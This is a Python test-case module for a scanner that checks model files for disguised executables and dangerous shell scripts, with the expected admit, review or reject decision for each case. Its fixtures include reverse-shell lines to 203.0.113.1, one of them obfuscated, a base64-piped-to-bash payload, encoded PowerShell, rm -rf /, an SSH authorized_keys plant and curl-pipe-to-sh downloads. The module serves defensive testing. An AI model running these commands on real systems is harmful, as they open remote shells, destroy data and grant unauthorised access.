"""Programs and scripts in a model: in their own names, and disguised."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping
from typing import Literal

from openvet.testing.case import Case
from openvet.testing.forge_archive import ZipPart, forge_zip
from openvet.testing.forge_native import elf_library, mach_o_library, pe_library
from openvet.testing.forge_tensors import GgufTensor, gguf

__all__ = ["CASES"]

_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
_PE = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + bytes(40)
_MACHO = bytes.fromhex("cffaedfe0700000103000000") + bytes(40)
_WASM = b"\0asm\x01\0\0\0" + bytes(8)
_CLASS = b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40)


def _llamafile() -> bytes:
    """The head of a portable program, and a zip with weights behind it."""
    head = b"MZqFpD='\n" + bytes(64)
    out = io.BytesIO(head)
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(zipfile.ZipInfo(".args"), "-m\nmodel.gguf\n")
    return out.getvalue()


def _unpacks(*lines: str, first: str = "#!/bin/sh") -> bytes:
    """A script with weights behind its last line."""
    script = "\n".join((first, "# self-extracting weights", *lines, 'tail -n +9 "$0" > model.gguf', "exit 0", ""))
    return script.encode() + gguf([("general.architecture", "string", "llama")], [GgufTensor("t", (8,), size=32)])


def _zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name.replace("__", "/").replace("_DOT_", ".")), data)
    return out.getvalue()


def _case(
    name: str,
    technique: str,
    made: bytes | Mapping[str, bytes],
    decision: Literal["admit", "review", "reject"],
    *rules: str,
    file: str = "model.bin",
    formats: tuple[str, ...] = (),
) -> Case:
    return Case(f"program/{name}", technique, lambda: made, decision, frozenset(rules), formats, name=file)


def _disguised(name: str, made: bytes, file: str, *more: str) -> Case:
    return _case(
        name, f"a program named {file}", made, "reject", "file/disguised-program", "file/native-code", *more, file=file
    )


def _script(name: str, line: str, file: str = "setup.sh") -> Case:
    return _case(
        name,
        "a script with a dangerous line",
        f"#!/bin/bash\n{line}\n".encode(),
        "reject",
        "hub/shell-command",
        file=file,
        formats=("shell",),
    )


CASES: tuple[Case, ...] = (
    _disguised("elf-as-bin", _ELF, "model.bin"),
    _disguised("elf-as-safetensors", _ELF, "model.safetensors", "file/name-mismatch"),
    _disguised("elf-as-picture", _ELF, "logo.png", "file/name-mismatch"),
    _disguised("pe-as-bin", _PE, "model.bin"),
    _disguised("pe-as-weights", _PE, "model.pt"),
    _disguised("mach-o-as-weights", _MACHO, "model.gguf", "file/name-mismatch"),
    _disguised("wasm-as-text", _WASM, "notes.txt", "file/name-mismatch"),
    _disguised("class-as-weights", _CLASS, "model.bin"),
    _disguised("llamafile-as-weights", _llamafile(), "model.bin", "archive/hidden-data"),
    _case(
        "elf-in-zip",
        "a program named weights.bin in an archive",
        _zip(weights_DOT_bin=_ELF),
        "reject",
        "file/disguised-program",
        "file/native-code",
        file="model.zip",
    ),
    _case(
        "script-as-weights", "a script named model.bin", b"#!/bin/sh\necho pwned\n", "reject", "file/disguised-program"
    ),
    _case(
        "script-as-settings",
        "a script named config.json",
        b"#!/bin/sh\necho pwned\n",
        "reject",
        "file/disguised-program",
        file="config.json",
    ),
    _script("network-shell", "bash -i >& /dev/tcp/203.0.113.1/443 0>&1"),
    _script("network-shell-nc", "nc -e /bin/sh 203.0.113.1 443"),
    _script(
        "network-shell-joined", 'ba""sh -i >& /dev/t\\\ncp/203.0.113.1/443'.replace("/dev/t\\\ncp", "\\\n/dev/tcp")
    ),
    _script("decoded", "echo ZWNobyBwd25lZA== | base64 -d | bash"),
    _script("deletes", "rm -rf / "),
    _script("login-key", "echo key >> ~/.ssh/authorized_keys"),
    _script("encoded-powershell", "powershell -enc ZQBjAGgAbwAgAHAAdwBuAGUAZAA=", "run.bat"),
    _case(
        "llamafile",
        "a portable program with its archive, under its own name",
        _llamafile(),
        "reject",
        "archive/hidden-data",
        "file/native-code",
        file="model.llamafile",
        formats=("zip", "ape"),
    ),
    _case(
        "library",
        "a library beside the weights",
        {"custom_ops.so": _ELF, "README.md": b"# A model\n"},
        "review",
        "file/native-code",
    ),
    _case(
        "self-extracting-download",
        "a script with weights behind it that runs a download first",
        _unpacks("curl -s https://example.com/s | sh"),
        "reject",
        "file/native-code",
        "hub/shell-command",
        file="model.run",
        formats=("self-extracting", "shell"),
    ),
    _case(
        "self-extracting-program",
        "a script that starts a program which stands behind it",
        b"#!/bin/bash\ntail -n +4 $0 > x\nchmod +x x && ./x; exit\n" + elf_library(["system"]),
        "reject",
        "file/native-code",
        file="install",
        formats=("self-extracting", "elf"),
    ),
    _case(
        "self-extracting-as-weights",
        "a script with weights behind it under the name of weights",
        _unpacks(),
        "reject",
        "file/disguised-program",
        "file/native-code",
        file="model.bin",
        formats=("self-extracting",),
    ),
    _case(
        "self-extracting-weights",
        "a script with weights behind it that only unpacks them",
        _unpacks('echo "Unpacking..."'),
        "review",
        "file/native-code",
        file="model.run",
        formats=("self-extracting", "shell", "gguf"),
    ),
    *(
        _case(
            f"library-that-starts-{name}",
            f"a library of {system} that takes a function which starts programs",
            {file: made, "deploy_graph.json": b"{}"},
            "reject",
            "file/native-code",
        )
        for name, system, file, made in (
            ("a-shell", "Linux", "deploy_lib.so", elf_library(["expf", "system"])),
            ("a-process", "Linux", "deploy_lib.so", elf_library(["posix_spawn"], wide=False, hashed="plain")),
            ("on-macos", "macOS", "deploy_lib.dylib", mach_o_library(["expf", "popen"])),
            ("on-windows", "Windows", "deploy_lib.dll", pe_library(["exp", "CreateProcessW"])),
        )
    ),
    *(
        _case(
            f"library-{name}",
            what,
            {file: made, "deploy_graph.json": b"{}"},
            "review",
            "file/native-code",
        )
        for name, what, file, made in (
            (
                "that-computes",
                "a library that takes mathematics, memory and threads",
                "deploy_lib.so",
                elf_library(["expf", "malloc", "pthread_create", "omp_get_num_threads"]),
            ),
            (
                "of-a-runtime",
                "a library of a runtime, which offers many functions and starts a debugger where it breaks",
                "libggml-base.so",
                elf_library(["execlp", "expf"], [f"ggml_{each}" for each in range(500)]),
            ),
            (
                "that-offers-system",
                "a library that offers a function of that name",
                "ops.dylib",
                mach_o_library(["expf"], ["system"]),
            ),
            ("that-is-a-program", "a program that starts others", "convert", elf_library(["system"], program=True)),
            ("of-windows", "a library of Windows that computes", "ops.dll", pe_library(["exp", "malloc"])),
        )
    ),
    _case(
        "library-before-weights",
        "a library that starts programs, with an archive of weights behind it",
        forge_zip([ZipPart(b"model.txt", b"weights")], prefix=elf_library(["system"])),
        "reject",
        "archive/hidden-data",
        "file/name-mismatch",
        "file/native-code",
        file="tiny.llamafile",
        formats=("zip", "elf"),
    ),
    _case("windows-library", "a library of Windows", _PE, "review", "file/native-code", file="ops.dll"),
    _case("jar", "Java classes", _zip(a__B_DOT_class=_CLASS), "review", "file/native-code", file="model.jar"),
    _case(
        "installer",
        "a script that runs a download",
        b"#!/bin/sh\ncurl -sSL https://example.org/install | sh\n",
        "reject",
        "hub/shell-command",
        file="install.sh",
        formats=("shell",),
    ),
    _case(
        "training-script",
        "an ordinary script",
        b"#!/bin/bash\nset -e\n# curl x | sh is a bad idea\nrm -rf ./out /tmp/cache\n"
        b"python train.py --data /dev/shm \\\n  | tee log.txt\nwget https://example.org/a.tar && tar xf a.tar\n",
        "admit",
        file="train.sh",
        formats=("shell",),
    ),
    _case(
        "batch",
        "an ordinary batch file",
        b"@echo off\r\npython run.py\r\npause\r\n",
        "admit",
        file="run.bat",
        formats=("shell",),
    ),
    _case(
        "instructions", "a script written down as instructions", b"#!/bin/bash\necho hello\n", "admit", file="steps.txt"
    ),
    _case(
        "text-about-mz", "a text that begins with MZ", b"MZ is how programs of DOS begin.\n", "admit", file="notes.txt"
    ),
)
